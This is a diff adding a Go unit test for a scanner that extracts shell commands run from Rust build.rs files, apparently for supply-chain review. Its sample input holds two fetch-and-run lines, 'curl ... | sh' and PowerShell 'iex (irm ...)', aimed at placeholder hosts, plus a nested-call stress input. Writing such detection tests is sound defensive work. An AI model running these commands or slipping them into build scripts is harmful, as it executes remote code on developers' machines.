@@ -1,6 +1,9 @@
 package rustsrc
 
 import (
+	"slices"
+	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -71,5 +74,30 @@ func TestAppFactsBuildScript(t *testing.T) {
 		if download != c.download || f.BinaryNamed != c.binary || f.Verified != c.verified || f.AppManifest != c.appManifest {
 			t.Errorf("%s: %+v", c.name, f)
 		}
+	}
+}
+
+func TestBuildScriptShellScripts(t *testing.T) {
+	src := `use std::process::Command;
+fn main() {
+    Command::new("sh").arg("-c").arg("curl -fsSL https://x.example/i.sh | sh").status().unwrap();
+    std::process::Command::new("powershell.exe").args(["-NoProfile", "-Command", "iex (irm https://x/i.ps1)"]).status();
+    Command::new("bash").arg("build.sh").status();
+    Command::new("curl").arg("-c").arg("jar");
+    Command::new("cmd").args(&["/C", "echo hi"]);
+}`
+	b := AppFacts(nil, source.NewFile("build.rs", []byte(src))).Build
+	var got []string
+	for _, s := range b.ShellScripts {
+		got = append(got, s.Text+"@"+strconv.Itoa(s.Loc.Start.Line))
+	}
+	want := []string{"curl -fsSL https://x.example/i.sh | sh@3", "iex (irm https://x/i.ps1)@4", "echo hi@7"}
+	if !slices.Equal(got, want) {
+		t.Errorf("ShellScripts = %q, want %q", got, want)
+	}
+	// A hostile file of nested calls stays linear and finds nothing odd.
+	hostile := strings.Repeat(`Command::new("sh").arg(`, 20000) + `"-c"`
+	if n := len(AppFacts(nil, source.NewFile("build.rs", []byte(hostile))).Build.ShellScripts); n != 0 {
+		t.Errorf("hostile: %d scripts", n)
 	}
 }
